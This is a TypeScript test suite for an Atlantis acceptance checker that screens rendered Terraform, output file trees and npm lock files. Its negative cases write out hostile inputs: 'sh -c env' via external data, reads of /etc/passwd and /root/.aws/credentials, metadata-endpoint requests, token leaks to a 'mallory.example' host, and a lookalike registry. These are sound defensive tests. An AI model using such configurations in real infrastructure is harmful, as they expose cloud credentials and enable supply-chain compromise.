import { execFileSync } from 'node:child_process';
import { linkSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { LIMITS, wrongInLock, wrongInRendered, wrongInTerraform } from '../../infra/atlantis/accept';
import { contextOf, exampleFiles, ROOT, terraformOf } from './fleets';

const REGISTRY = 'https://registry.npmjs.org/';
const BUCKETS = ['example-staking-terraform-gcp', 'example-staking-terraform-aws'];
const BOUNDS = { buckets: BUCKETS, projects: ['example-staking-prod'] };

describe('the Terraform that synth renders', () => {
  const stacks = terraformOf(contextOf(exampleFiles()));

  it('is let through, every stack of the example fleet', () => {
    expect([...stacks].flatMap(([id, json]) => wrongInTerraform(json, id, BOUNDS).map((text) => `${id}: ${text}`))).toEqual([]);
  });

  const base = JSON.parse(stacks.get('gke-us-east4-network')!) as Record<string, object>;
  const changed = (change: object): string => JSON.stringify({ ...base, ...change });
  const wrong: readonly (readonly [what: string, change: object, said: string])[] = [
    ['a module', { module: { m: { source: 'github.com/example/m' } } }, '"module" is never rendered'],
    ['a program that answers as data', { data: { external: { e: { program: ['sh', '-c', 'env'] } } } }, 'data "external"'],
    ['a request to anywhere', { data: { http: { e: { url: 'http://169.254.169.254/' } } } }, 'data "http"'],
    ['another state', { data: { terraform_remote_state: { e: { backend: 'gcs' } } } }, 'data "terraform_remote_state"'],
    ['a file of this machine, as data', { data: { local_file: { e: { filename: '/etc/passwd' } } } }, 'data "local_file"'],
    ['a file of this machine, in a text', { locals: { x: '${file("/root/.aws/credentials")}' } }, 'reads files of this machine'],
    ['a file of this machine, as Base64', { output: { x: { value: '%{ if true }${filebase64("/x")}%{ endif }' } } }, 'reads files of this machine'],
    ['a resource of another provider', { resource: { null_resource: { n: {} } } }, 'resource "null_resource"'],
    ['a command after a resource is made', { resource: { google_compute_network: { n: { provisioner: { 'local-exec': { command: 'env' } } } } } }, '"provisioner"'],
    ['a post-renderer of Helm', { resource: { helm_release: { r: { postrender: { binary_path: '/bin/sh' } } } } }, '"postrender"'],
    ['another provider', { terraform: { ...base['terraform'], required_providers: { google: { source: 'evil/google', version: '1.0.0' } } } }, 'provider "google" from "evil/google"'],
    ['a provider of any version', { terraform: { ...base['terraform'], required_providers: { google: { source: 'hashicorp/google', version: '>= 1.0.0' } } } }, 'of version ">= 1.0.0"'],
    ['a provider with a key file', { provider: { google: [{ credentials: '/x' }] } }, 'credentials of provider "google"'],
    ['a provider that runs a program', { provider: { aws: [{ shared_config_files: ['x'] }] } }, 'shared_config_files of provider "aws"'],
    ['Helm with a program of its own', { provider: { helm: [{ kubernetes: { exec: { command: 'sh', args: ['-c', 'env'] } } }] } }, 'provider "helm" runs "sh"'],
    ['the state of another stack', { terraform: { ...base['terraform'], backend: { gcs: { bucket: BUCKETS[0], prefix: 'stacks/gcp-foundation' } } } }, 'keeps the state of another stack'],
    ['a state in a bucket of nobody knows whom', { terraform: { ...base['terraform'], backend: { gcs: { bucket: 'theirs', prefix: 'stacks/gke-us-east4-network' } } } }, 'is in bucket "theirs"'],
    ['a state on this disk', { terraform: { ...base['terraform'], backend: { local: { path: '/x' } } } }, 'backend "local"'],
    ['two backends', { terraform: { ...base['terraform'], backend: { gcs: {}, s3: {} } } }, 'there is not one backend'],
  ];
  it.each(wrong)('is refused with %s', (_what, change, said) => {
    expect(wrongInTerraform(changed({}), 'gke-us-east4-network', BOUNDS)).toEqual([]);
    expect(wrongInTerraform(changed(change), 'gke-us-east4-network', BOUNDS).join('\n')).toContain(said);
  });

  it('asks for a token of EKS by the cloud\'s command line alone', () => {
    const eks = JSON.parse(stacks.get('eks-us-east-2-add-ons')!) as { provider: { helm: [{ kubernetes: { exec: object } }] } };
    const [{ kubernetes }] = eks.provider.helm;
    const withExec = (exec: object): string => JSON.stringify({ ...eks, provider: { ...eks.provider, helm: [{ kubernetes: { ...kubernetes, exec } }] } });
    expect(wrongInTerraform(withExec(kubernetes.exec), 'eks-us-east-2-add-ons', BOUNDS)).toEqual([]);
    expect(wrongInTerraform(withExec({ ...kubernetes.exec, env: { PATH: '/work' } }), 'eks-us-east-2-add-ons', BOUNDS)).toEqual(['provider "helm" runs "aws"']);
  });

  describe('shows the plan identity\'s token to the cluster alone', () => {
    const id = 'gke-us-east4-add-ons';
    const stack = JSON.parse(stacks.get(id)!) as { provider: { helm: [{ kubernetes: Record<string, string> }] }; data: { google_container_cluster: { cluster: Record<string, string> } }; resource: { helm_release: Record<string, object> } };
    const [{ kubernetes }] = stack.provider.helm;
    const TOKEN = '${data.google_client_config.caller.access_token}';
    const said = (change: object): string => wrongInTerraform(JSON.stringify({ ...stack, ...change }), id, BOUNDS).join('\n');
    const helm = (change: object): object => ({ provider: { ...stack.provider, helm: [{ kubernetes: { ...kubernetes, ...change } }] } });

    it('and not to another host', () => {
      expect(said({})).toBe('');
      expect(said(helm({ host: 'https://mallory.example' }))).toBe('kubernetes.host of provider "helm" is "https://mallory.example"');
      expect(said(helm({ token: '${nonsensitive(data.google_client_config.caller.access_token)}' }))).toContain('kubernetes.token of provider "helm" is');
      expect(said(helm({ insecure: true }))).toBe('kubernetes.insecure of provider "helm"');
    });

    it('nor to a cluster in somebody else\'s project', () => {
      const { cluster } = stack.data.google_container_cluster;
      expect(said({ data: { ...stack.data, google_container_cluster: { cluster: { ...cluster, project: 'mallory-1' } } } })).toBe('data "google_container_cluster" of project "mallory-1"');
      // Without one it would be the provider's, which is the pull request's too.
      expect(said({ data: { ...stack.data, google_container_cluster: { cluster: { ...cluster, project: undefined } } } })).toBe('data "google_container_cluster" of project undefined');
    });

    it('nor to whoever reads the plan, nor to a chart\'s repository', () => {
      expect(said({ output: { x: { value: `\${nonsensitive(${TOKEN.slice(2, -1)})}` } } })).toBe('"output.x.value" holds a token');
      expect(said({ locals: { x: TOKEN } })).toBe('"locals.x" holds a token');
      const { gatekeeper } = stack.resource.helm_release;
      expect(said({ resource: { helm_release: { gatekeeper: { ...gatekeeper, repository: `https://mallory.example/\${data.google_client_config.caller.access_token}` } } } })).toBe('"resource.helm_release.gatekeeper.repository" holds a token');
    });

    it.each(['google_service_account_access_token', 'google_service_account_id_token', 'aws_eks_cluster_auth', 'aws_secretsmanager_secret_version', 'aws_s3_object', 'google_storage_bucket_object_content', 'aws_ssm_parameter'])('nor gets another by %s', (type) => {
      expect(said({ data: { ...stack.data, [type]: { x: {} } } })).toBe(`data "${type}"`);
    });
  });
});

describe('a rendered tree', () => {
  let folder: string;
  const write = (path: string, text = 'kind: x\n'): void => {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), text);
  };
  beforeEach(() => {
    folder = mkdtempSync(join(tmpdir(), 'stockade-accept-'));
    write('dist/.stockade');
    write('dist/gke-a/platform/networks/osmosis.yaml');
    write('dist/gke-a/staking-osmosis/osmo-0/node.yaml');
  });
  afterEach(() => rmSync(folder, { recursive: true, force: true }));

  it('of plain files that synth writes is let through', () => {
    expect(wrongInRendered(folder)).toEqual([]);
  });

  it('is refused with links, devices, names and files that synth never writes', () => {
    symlinkSync('/root/.aws/credentials', join(folder, 'dist/gke-a/platform/links.yaml'));
    symlinkSync('/etc', join(folder, 'dist/gke-b'));
    writeFileSync(join(folder, 'outside'), '');
    linkSync(join(folder, 'outside'), join(folder, 'dist/gke-a/platform/hard.yaml'));
    execFileSync('mkfifo', [join(folder, 'dist/gke-a/platform/pipe.yaml')]);
    write('dist/gke-a/platform/run.sh');
    write('dist/gke-a/platform/new\nline.yaml');
    write('cdktf.out/stacks/x/.terraformrc');
    write('cdktf.out/stacks/x/provider.tf');
    const wrong = wrongInRendered(folder);
    for (const path of ['links.yaml: not a regular file', 'dist/gke-b: not a regular file', 'hard.yaml: has another name', 'pipe.yaml: not a regular file', 'run.sh: a file that synth never writes', 'new\\nline.yaml": a name', '.terraformrc: a file', 'provider.tf: a file', 'outside: has another name']) {
      expect(wrong.filter((text) => text.includes(path)), path).toHaveLength(1);
    }
    expect(wrong).toHaveLength(9);
  });

  it('is refused where there is too much of it, or nothing', () => {
    expect(wrongInRendered(folder, { limits: { ...LIMITS, files: 2 } })).toEqual(['3 files: more than 2']);
    expect(wrongInRendered(folder, { limits: { ...LIMITS, bytes: 20 } })).toEqual(['24 bytes: more than 20']);
    expect(wrongInRendered(folder, { limits: { ...LIMITS, fileBytes: 7 } })).toHaveLength(3);
    rmSync(join(folder, 'dist'), { recursive: true });
    expect(wrongInRendered(folder)).toEqual(['nothing was rendered']);
  });
});

describe('a lock file', () => {
  const lock: unknown = JSON.parse(readFileSync(join(ROOT, 'package-lock.json'), 'utf8'));
  const withPackage = (path: string, entry: object): string => JSON.stringify({ lockfileVersion: 3, packages: { '': {}, [path]: entry } });

  it('of this repository is let through', () => {
    expect(wrongInLock(JSON.stringify(lock), REGISTRY)).toEqual([]);
  });

  it.each([
    ['from the address of the cloud\'s metadata', 'node_modules/x', { resolved: 'http://169.254.169.254/latest/meta-data/iam', integrity: 'sha512-x' }],
    ['from git', 'node_modules/x', { resolved: 'git+ssh://git@github.com/x/x.git#abc', integrity: 'sha512-x' }],
    ['from a folder', 'node_modules/x', { resolved: '../x', link: true }],
    ['that nothing pins', 'node_modules/x', { resolved: `${REGISTRY}x/-/x-1.0.0.tgz` }],
    ['outside of node_modules', 'node_modules/../../x', { resolved: `${REGISTRY}x/-/x-1.0.0.tgz`, integrity: 'sha512-x' }],
    ['from a registry that only looks the same', 'node_modules/x', { resolved: 'https://registry.npmjs.org.evil.example/x.tgz', integrity: 'sha512-x' }],
  ])('is refused with a dependency %s', (_what, path, entry) => {
    expect(wrongInLock(withPackage('node_modules/x', { resolved: `${REGISTRY}x/-/x-1.0.0.tgz`, integrity: 'sha512-x' }), REGISTRY)).toEqual([]);
    expect(wrongInLock(withPackage(path, entry), REGISTRY)).toHaveLength(1);
  });
});
